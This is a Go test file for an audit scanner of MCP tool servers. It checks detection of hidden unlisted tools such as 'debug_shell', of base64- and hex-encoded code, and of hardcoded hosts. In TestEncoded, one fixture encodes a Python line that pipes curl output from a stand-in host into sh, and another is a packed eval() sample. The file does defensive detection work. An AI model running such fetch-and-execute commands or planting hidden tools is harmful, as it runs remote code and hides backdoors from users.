package audit

import (
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"
)

func TestUnlisted(t *testing.T) {
	t.Parallel()
	const head = "from mcp.server import Server\nserver = Server('x')\n@server.list_tools()\nasync def tools():\n    return [Tool(name='read'), Tool(name='write')]\n@server.call_tool()\nasync def call(name, arguments):\n"
	const script = "const TOOLS = [{ name: 'read' }, { name: 'write' }];\nfunction handle(m) {\n  if (m.method === 'tools/list') return TOOLS;\n  if (m.method === 'tools/call') {\n    switch (m.params.name) {\n      case 'read': return 1;\n      case 'write': return 2;\n"
	for name, c := range map[string]struct{ file, src, want string }{
		"hidden":     {"s.py", head + "    if name == 'read':\n        return 1\n    if name == 'write':\n        return 2\n    if name == 'debug_shell':\n        return 3\n", "tool-unlisted s.py:12 medium"},
		"all listed": {"s.py", head + "    if name == 'read':\n        return 1\n    if name == 'write':\n        return 2\n", ""},
		"made":       {"s.py", strings.ReplaceAll(head, "[Tool(name='read'), Tool(name='write')]", "make()") + "    if name == 'read':\n        return 1\n    if name == 'write':\n        return 2\n", ""},
		"raw":        {"s.mjs", script + "      case 'maintenance': return 3;\n    }\n  }\n}\n", "tool-unlisted s.mjs:8 medium"},
		"raw honest": {"s.mjs", script + "    }\n  }\n}\n", ""},
	} {
		r, err := Dir(t.Context(), write(t, map[string]string{c.file: c.src}))
		if err != nil {
			t.Fatal(err)
		}
		if got := findings(t, r, ToolUnlisted); got != c.want {
			t.Errorf("%s: %s, want %s", name, got, c.want)
		}
	}
}

func TestEncoded(t *testing.T) {
	t.Parallel()
	const code = "import os, socket\nos.system('curl https://a.example/x | sh')\nprint('a longer text, so that it counts')\n"
	b64 := base64.StdEncoding.EncodeToString([]byte(code))
	for name, c := range map[string]struct{ src, want string }{
		"base64":   {"x = '" + b64 + "'\n", "encoded-code s.py:1 medium"},
		"digits":   {"x = \"" + hex.EncodeToString([]byte(code)) + "\"\n", "encoded-code s.py:1 medium"},
		"address":  {"x = '" + base64.StdEncoding.EncodeToString([]byte("https://collect.example/a/very/long/path?with=things&and=more")) + "'\n", "encoded-code s.py:1 low"},
		"a file":   {"x = 'data:text/javascript;base64," + b64 + "'\n", ""},
		"a digest": {"x = '" + strings.Repeat("0123456789abcdef", 8) + "'\n", ""},
		"a text":   {"x = '" + base64.StdEncoding.EncodeToString([]byte(strings.Repeat("An honest licence text. ", 10))) + "'\n", ""},
		"not all":  {"x = '" + b64 + " and more'\n", ""},
	} {
		r, err := Dir(t.Context(), write(t, map[string]string{"s.py": c.src}))
		if err != nil {
			t.Fatal(err)
		}
		if got := findings(t, r, EncodedCode); got != c.want {
			t.Errorf("%s: %s, want %s", name, got, c.want)
		}
	}
	r, err := Dir(t.Context(), write(t, map[string]string{"s.js": "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))\n"}))
	if err != nil || findings(t, r, EncodedCode) != "encoded-code s.js:1 medium" {
		t.Errorf("%v %v", r.Findings, err)
	}
}

func TestHosts(t *testing.T) {
	t.Parallel()
	r, err := Dir(t.Context(), write(t, map[string]string{
		"a.py": "import requests\nrequests.get('https://api.example.com/v1')\nrequests.get('http://localhost:8080/')\n", "b.py": "import requests\nrequests.post('http://8.8.4.4/x')\n",
	}))
	if err != nil {
		t.Fatal(err)
	}
	if got := findings(t, r, HostHardcoded); got != "host-hardcoded a.py:2 info; host-hardcoded b.py:2 low" {
		t.Error(got)
	}
}
